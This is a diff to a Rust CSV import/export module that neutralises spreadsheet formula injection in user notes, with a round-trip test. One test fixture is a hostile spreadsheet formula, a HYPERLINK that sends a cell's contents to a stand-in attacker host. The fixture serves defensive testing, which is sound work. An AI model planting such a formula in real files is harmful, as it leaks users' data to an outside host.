@@ -116,7 +116,10 @@ pub fn parse_values(bytes: &[u8]) -> Result<Vec<ValueRow>, Vec<ValueFileProblem>
             continue;
         }
         let get = |i: usize| record.get(i).unwrap_or("").to_owned();
-        let note = c_note.map(get).filter(|n| !n.is_empty());
+        let note = c_note
+            .map(get)
+            .filter(|n| !n.is_empty())
+            .map(|n| unneutralized(&n).to_owned());
         rows.push(ValueRow {
             line,
             place: format!("dòng {line}"),
@@ -140,18 +143,43 @@ pub fn parse_values(bytes: &[u8]) -> Result<Vec<ValueRow>, Vec<ValueFileProblem>
     }
 }
 
-/// Writes values in the same long format, so an export re-imports unchanged.
+/// Characters that make a spreadsheet read a cell as a formula (OWASP's list).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A user-written cell as a CSV carries it: one that a spreadsheet would run as a formula
+/// (`=HYPERLINK(…)`, `+`, `-`, `@`, tab, CR first) gets a leading `'`, which Excel shows
+/// as text and [`parse_values`] removes again.
+pub fn neutralized(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(FORMULA_STARTS)
+        || (cell.starts_with('\'') && cell[1..].starts_with(FORMULA_STARTS))
+    {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// The cell a neutralized one stood for.
+fn unneutralized(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_STARTS) || rest.starts_with('\'') => rest,
+        _ => cell,
+    }
+}
+
+/// Writes values in the same long format, so an export re-imports unchanged. Notes are
+/// [`neutralized`]: opened in a spreadsheet, no cell is a live formula.
 pub fn write_values(rows: &[ValueRow]) -> String {
     let mut w = csv::Writer::from_writer(Vec::new());
     w.write_record(["unit", "year", "indicator", "value", "note"])
         .expect("writing to memory");
     for r in rows {
         w.write_record([
-            &r.unit,
-            &r.year,
-            &r.indicator,
-            &r.value,
-            r.note.as_deref().unwrap_or(""),
+            r.unit.as_str(),
+            r.year.as_str(),
+            r.indicator.as_str(),
+            r.value.as_str(),
+            &neutralized(r.note.as_deref().unwrap_or("")),
         ])
         .expect("writing to memory");
     }
@@ -162,6 +190,43 @@ pub fn write_values(rows: &[ValueRow]) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn no_exported_note_is_a_live_formula_and_each_comes_back_as_written() {
+        let notes = [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm\")",
+            "+1+1",
+            "-2",
+            "@SUM(A1)",
+            "\tthẻ",
+            "\rdòng",
+            "'=đã có dấu nháy",
+            "'thường",
+            "bình thường",
+            "a=b",
+        ];
+        let rows: Vec<ValueRow> = notes
+            .iter()
+            .map(|n| ValueRow {
+                line: 0,
+                place: String::new(),
+                unit: "18415".into(),
+                year: "2021".into(),
+                indicator: "3.1".into(),
+                value: "85".into(),
+                note: Some((*n).into()),
+            })
+            .collect();
+        let csv = write_values(&rows);
+        let mut rdr = csv::Reader::from_reader(csv.as_bytes());
+        for record in rdr.records() {
+            let note = record.unwrap()[4].to_owned();
+            assert!(!note.starts_with(FORMULA_STARTS), "live: {note:?}");
+        }
+        let back = parse_values(csv.as_bytes()).unwrap();
+        let back: Vec<&str> = back.iter().map(|r| r.note.as_deref().unwrap()).collect();
+        assert_eq!(back, notes);
+    }
 
     #[test]
     fn reads_english_and_vietnamese_headers_with_bom_and_semicolons() {
